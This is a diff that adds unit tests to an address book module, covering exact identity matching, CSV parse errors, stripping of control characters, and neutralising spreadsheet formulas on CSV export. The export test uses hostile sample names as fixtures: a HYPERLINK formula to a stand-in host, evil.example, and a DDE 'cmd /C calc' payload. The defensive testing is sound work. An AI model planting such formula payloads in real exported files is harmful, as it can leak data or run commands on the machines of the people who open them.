@@ -59,3 +59,51 @@ def test_merged_prefers_the_imported_contact() -> None:
     theirs = AddressBook().with_name("+14155550101", "Alice").with_name("+14155550102", "Bob")
     merged = mine.merged(theirs)
     assert merged.name_of("+14155550101") == "Alice" and len(merged) == 2
+
+
+def test_always_admit_matches_other_identities_only_exactly() -> None:
+    book = (
+        AddressBook()
+        .with_always_admit("sip:boss@corp.example.com", True)
+        .with_always_admit("client:alice.smith", True)
+        .with_always_admit("+1 (312) 555-0101", True)
+    )
+    assert book.always_admits("sip:boss@corp.example.com")
+    assert not book.always_admits("sip:boss@corp-example.com")
+    assert book.always_admits("client:alice.smith")
+    assert not book.always_admits("client:alicesmith")
+    assert not book.always_admits("client:alice-smith")
+    assert book.always_admits("+13125550101")  # phone numbers still match however written
+    assert normalise(" client:alice.smith ") == "client:alice.smith"
+
+
+def test_csv_the_reader_cannot_parse_is_an_address_book_error() -> None:
+    with pytest.raises(AddressBookError, match="row 2"):
+        AddressBook.from_csv('+14155550101,Alice\n+14155550102,"Bob\n')  # unterminated quote
+    with pytest.raises(AddressBookError, match="field limit"):
+        AddressBook.from_csv("+14155550101," + "x" * 131_073 + "\n")
+
+
+def test_names_hold_no_control_characters() -> None:
+    book = AddressBook.from_csv('+14155550101,"Al\x00ice\x1b[31m\u202eevil\r\nSmith"\n')
+    assert book.name_of("+14155550101") == "Al ice [31mevil Smith"
+    renamed = book.with_name("+14155550101", "Bob\x07\x00\tJones\x7f")
+    assert renamed.name_of("+14155550101") == "Bob Jones"
+
+
+def test_exported_names_are_no_spreadsheet_formulas() -> None:
+    book = (
+        AddressBook()
+        .with_name("+13125550101", '=HYPERLINK("http://evil.example/?x","Bob")')
+        .with_name("+13125550102", "+cmd|' /C calc'!A0")
+        .with_name("+13125550103", "@SUM(A1:A9)")
+        .with_name("+13125550104", "-2+3")
+        .with_name("+13125550105", "Carol")
+    )
+    rows = book.to_csv().splitlines()[1:]
+    assert len(rows) == 5
+    for row in rows:
+        number, rest = row.split(",", 1)
+        assert number.startswith("+1312555010")  # the number stays readable
+        assert not rest.lstrip('"').startswith(("=", "+", "@", "-"))
+    assert AddressBook.from_csv(book.to_csv()) == book  # and reads back as it was
